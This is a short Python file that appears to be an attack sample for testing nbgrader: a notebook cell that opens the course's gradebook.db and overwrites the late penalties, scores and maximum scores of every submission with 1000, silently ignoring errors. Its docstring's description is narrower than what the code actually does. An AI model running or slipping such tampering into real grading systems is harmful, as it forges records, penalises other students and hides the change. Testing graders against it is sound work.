"""Edits the gradebook with sqlite from a cell: a classmate's late penalty 1000, its own
cells full marks. Plain nbgrader: the forged numbers stand.

earned: 0
layer: course
"""
# %% extra
import os, sqlite3
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
try:
    con = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=1)
    con.execute("UPDATE submitted_notebook SET late_submission_penalty = 1000")
    con.execute("UPDATE grade SET auto_score = 1000")
    con.execute("UPDATE grade_cells SET max_score = 1000")
    con.commit()
    con.close()
except Exception:
    pass
